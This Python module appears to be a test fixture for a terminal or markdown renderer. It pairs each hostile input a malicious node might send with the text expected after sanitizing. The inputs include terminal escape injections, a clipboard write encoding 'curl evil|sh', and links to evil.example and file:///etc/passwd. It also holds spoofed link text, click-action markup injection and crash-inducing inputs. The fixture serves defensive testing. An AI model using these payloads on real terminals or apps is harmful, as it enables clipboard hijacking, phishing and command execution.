"""Texts that a hostile node may send, each with what a reader may see of it, or "".

They try to steer the terminal (its title, clipboard, screen, links), to hide or reorder text, to
become actions or markup of the screen, to crash what reads them, and to lead a click elsewhere.
"""

from typing import Final

ESC, BEL, ST, CSI8, OSC8 = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d"

PAYLOADS: Final[dict[str, tuple[str, str]]] = {
    "title": (f"a{ESC}]0;pwned{BEL}b", "ab"),
    "title, other end": (f"a{ESC}]2;pwned{ST}b", "ab"),
    "title, eight bits": (f"a{OSC8}0;pwned\x9cb", "ab"),
    "clipboard": (f"a{ESC}]52;c;Y3VybCBldmlsfHNo{BEL}b", "ab"),
    "clipboard, unclosed": (f"a{ESC}]52;c;Y3VybCBldmlsfHNo", "a"),
    "hyperlink": (f"{ESC}]8;;http://evil.example{ST}here{ESC}]8;;{ST}", "here"),
    "screen": (f"a{ESC}[2J{ESC}[1;1H{ESC}[?1049lb", "ab"),
    "colours": (f"a{ESC}[31m{CSI8}8mb", "ab"),
    "answerback": (f"a{ESC}[c{ESC}[6n{ESC}P+q544e{ST}b", "ab"),
    "tmux": (f"a{ESC}Ptmux;{ESC}{ESC}]0;pwned{BEL}{ST}b", "ab"),
    "controls": ("a\x00\x08\x0e\x0f\x7fb", "ab"),
    "bidi": ("a\u202egnp\u202c\u2066x\u2069", "agnpx"),
    "bidi as entity": ("a&#x202e;b&#27;[31m&#x9b;c", ""),
    "tags": ("a\U000e0041\U000e0042b", "ab"),
    "action": ("[@click=app.bell]XX[/]", "[@click=app.bell]XX[/]"),
    "action as link": ("[press](@click=app.quit)", ""),
    "malformed markup": ("oops [/nope] [red", "oops [/nope] [red"),
    "variables": ("$text [$error]x[/] [b]", "$text [$error]x[/] [b]"),
    "quote in a link": ("[x](http://a.example/');app.exit('", ""),
    "link of script": ("[x](javascript:alert(1)) [y](data:text/html;base64,AAAA)", ""),
    "link to a file": ("[x](%66ile:///etc/passwd) <file:///etc/passwd>", ""),
    "link that pretends": ("[https://bank.example](https://evil.example)", "https://bank.example"),
    "image": ("![x](http://evil.example/pixel.png)", ""),
    "html": ("<script>alert(1)</script><think>t</think>", "<script>alert(1)</script>"),
    "fence that is none": (f"```py{ESC}]0;pwned{BEL}\nx{ESC}[2J\n", ""),
    "language": ("```[@click=app.quit]x[/]\ncode\n```\n", "code"),
    "unclosed": ("**bold [link](", "**bold [link]("),
    "line ends": ("a\u2028```\u2029b\x0b\x0c\x85c", ""),
    "surrogates": ("a\ud800b", ""),
    "combining": ("e" + "\u0301" * 300, ""),
    "wide": ("漢" * 200 + "👩\u200d👩\u200d👧" * 50, ""),
    "table": ("|a|\n|-|\n|[@click=app.bell]x[/]|\n", ""),
    "ragged table": ("|a|b|c|\n|-|:-:|-:|\n|1|\n|1|2|3|4|\n", ""),
    "numbers": ("999999999. a\n1000000000. b\n", ""),
    "nesting": ("> " * 40 + "deep", "deep"),
    "brackets": ("[" * 3_100, ""),
}
